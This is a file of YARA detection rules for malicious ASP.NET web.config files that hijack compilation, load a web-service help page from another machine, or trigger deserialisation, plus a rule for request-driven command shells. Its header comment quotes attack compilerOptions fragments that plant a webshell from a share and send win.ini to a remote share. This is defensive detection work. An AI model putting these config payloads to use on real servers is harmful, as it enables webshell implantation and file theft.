/*
  extriage rules for configuration files that hand a folder's compilation or its web services to a file the
  attacker supplies, written for this project (MIT, like the rest of extriage). Issue 14, helper X38
  (thirty-eighth unseen collection: shells whose harm is outside a code block).

  Why this file: Soroush Dalili's "Uploading web.config for Fun and Profit 2" (2019) gives web.config files
  that hold no code at all - the code comes from a share or from an upload of an allowed extension - and on
  first sight five of the six configs of the collection were found by nothing (the sixth holds code):
    - a compiler's compilerOptions attribute is appended to the csc/vbc/jsc command line of every page the
      folder compiles: `/resource:"\\share\webshell.txt" /out:"C:\...\webshell.aspx" #` writes a page
      wherever the attacker likes, `"C:\...\attachment\webshellcs.txt" #` compiles an uploaded text file
      in place of an existing page's class, `/resource:c:\windows\win.ini /out:\\share\test.bin` sends a
      file out. Applications set compilerOptions to language versions, warnings and symbols
      (`/langversion:`, `/nowarn:`, `/define:`, `/optionInfer+`, `/d:DEBUG`), never to an output, a resource,
      an absolute or UNC path or a `#` that ends the command line;
    - webServices/wsdlHelpGenerator names the page ASP.NET runs for any .asmx of the folder (and, with the
      handler remaps of the same article, for .aspx/.ascx/.master/... too): a UNC or URL there runs a page
      from another machine. Applications keep the framework's DefaultWsdlHelpGenerator.aspx or their own
      page in the site;
    - a membership provider of the client application services (ClientFormsAuthenticationMembershipProvider,
      meant for WinForms clients) with the authentication JSON service enabled or the legacy JSON handling
      switched on: the login deserialises what the provider's serviceUri returns (an ObjectDataProvider
      starting a program). Server applications use the SQL, Active Directory or their own providers.
  meta: family (shown to the user), severity, outcome ("webshell"/"success"), wave, attack.
*/

rule EXT_WEBSHELL_Config_Compiler_Options_Take_Over_Build
{
    meta:
        author = "extriage"
        description = "Configuration whose compiler compilerOptions add an output, a resource, a bug report, an absolute or UNC path or a '#' that ends the command line: pages of the folder are compiled into a file the attacker chose, from a file the attacker supplied, or send a file out"
        family = "Config: compiler options take over the build"
        severity = "critical"
        outcome = "webshell"
        wave = "any"
        attack = "T1505.003,T1127"
    strings:
        $switch = /\bcompilerOptions\s*=\s*("[^"]{0,600}|'[^']{0,600})[\/-](out|resource|res|linkresource|linkres|bugreport|recurse|addmodule)\s*:/ nocase ascii wide
        $path = /\bcompilerOptions\s*=\s*("[^"]{0,600}|'[^']{0,600})(\\\\[A-Za-z0-9_.$-]|\b[A-Za-z]:\\|&quot;[A-Za-z]:\\)/ nocase ascii wide
        $hash = /\bcompilerOptions\s*=\s*("[^"]{0,600}\s#\s*"|'[^']{0,600}\s#\s*')/ nocase ascii wide
        $compiler = /<\s*compiler\b/ nocase ascii wide
        $xml = /(\xEF\xBB\xBF)?\s{0,64}<(\?xml|configuration|!--)/ nocase
        $xmlw = /(\xFF\xFE)?(\s\x00){0,64}<\x00(\?\x00x\x00m\x00l|c\x00o\x00n\x00f|!\x00-)/ nocase
    condition:
        filesize < 64MB and ($xml at 0 or $xmlw at 0) and $compiler and ($switch or $path or $hash)
}

rule EXT_WEBSHELL_Config_Loads_Remote_Service_Page
{
    meta:
        author = "extriage"
        description = "Configuration whose webServices wsdlHelpGenerator is a UNC path or a URL: ASP.NET runs that page from another machine for every web service (and every remapped page) of the folder"
        family = "Config: web service help page from another machine"
        severity = "critical"
        outcome = "webshell"
        wave = "any"
        attack = "T1505.003"
    strings:
        $help = /<\s*wsdlHelpGenerator\b[^>]{0,300}\bhref\s*=\s*["']\s*(\\\\|\/\/|file:|https?:)/ nocase ascii wide
        $xml = /(\xEF\xBB\xBF)?\s{0,64}<(\?xml|configuration|!--)/ nocase
        $xmlw = /(\xFF\xFE)?(\s\x00){0,64}<\x00(\?\x00x\x00m\x00l|c\x00o\x00n\x00f|!\x00-)/ nocase
    condition:
        filesize < 64MB and ($xml at 0 or $xmlw at 0) and $help
}

rule EXT_WEBSHELL_Config_Client_Services_Provider_Deserialises
{
    meta:
        author = "extriage"
        description = "Configuration giving the site a client application services provider (ClientFormsAuthenticationMembershipProvider and kin, meant for WinForms clients) with the authentication JSON service or the legacy client-services JSON handling on: a login deserialises what the provider's serviceUri returns"
        family = "Config: client services provider deserialisation"
        severity = "critical"
        outcome = "webshell"
        wave = "any"
        attack = "T1505.003,T1190"
    strings:
        $provider = /System\.Web\.ClientServices\.Providers\.Client(FormsAuthenticationMembership|Windows?AuthenticationMembership|Role|Settings)Provider\b/ nocase ascii wide
        $uri = /\bserviceUri\s*=\s*["']\s*(https?:|\/\/|\\\\)/ nocase ascii wide
        $legacy = /aspnet:UseLegacyClientServicesJsonHandling["'][^>]{0,100}\bvalue\s*=\s*["']\s*true/ nocase ascii wide
        $authsvc = /<\s*(authenticationService|roleService|profileService)\b[^>]{0,200}\benabled\s*=\s*["']\s*true/ nocase ascii wide
        $xml = /(\xEF\xBB\xBF)?\s{0,64}<(\?xml|configuration|!--)/ nocase
        $xmlw = /(\xFF\xFE)?(\s\x00){0,64}<\x00(\?\x00x\x00m\x00l|c\x00o\x00n\x00f|!\x00-)/ nocase
    condition:
        filesize < 64MB and ($xml at 0 or $xmlw at 0) and $provider and $uri and ($legacy or $authsvc)
}

/*
  The part such a configuration compiles is no page: in the take-over of s.2.1 it is `webshellcs.txt`, the source
  of a page class whose render method runs `Process.Start` on `Request["cmd"]`. The behaviour analysis reads
  pages and the sources ASP.NET compiles by itself (App_Code, CodeFile/Src), not a text file, and no rule knew
  it, so the split shell was named by its web.config alone. This rule names the source wherever it sits: a
  program's file name taken straight from the request (`StartInfo.FileName = Request[...]`,
  `Process.Start(Request.Form[...])`). Applications start their own tools by a fixed or configured path and at
  most pass request values as arguments; none of benign19-33 or the training corpus's benign pages does this.
  No outcome in the meta: in a page it is a web shell; in a source file (.txt, a .cs ASP.NET never compiles)
  it is reported for review without raising the verdict - the config that compiles it is the web shell.
*/

rule EXT_WEBSHELL_Source_Runs_Request_Named_Program
{
    meta:
        author = "extriage"
        description = "Source code (in any file: a .txt compiled through compilerOptions, a .cs, a page) that starts the program the request names: StartInfo.FileName = Request[...] or Process.Start(Request...)"
        family = "command shell source (request names the program)"
        severity = "high"
        wave = "any"
        attack = "T1505.003,T1059"
    strings:
        $fn = /StartInfo\s*\.\s*FileName\s*=\s*([A-Za-z_][A-Za-z0-9_]{0,30}\s*\.\s*){0,3}Request\s*(\.\s*(Form|QueryString|Params|Item|Headers|Cookies)\s*)?[\[(]/ nocase ascii wide
        $ps = /Process\s*\.\s*Start\s*\(\s*([A-Za-z_][A-Za-z0-9_]{0,30}\s*\.\s*){0,3}Request\s*(\.\s*(Form|QueryString|Params|Item|Headers|Cookies)\s*)?[\[(]/ nocase ascii wide
        $log1 = "GET /" ascii
        $log2 = "POST /" ascii
        $log3 = "#Fields:" ascii
    condition:
        filesize < 16MB and not any of ($log*) and ($fn or $ps)
}
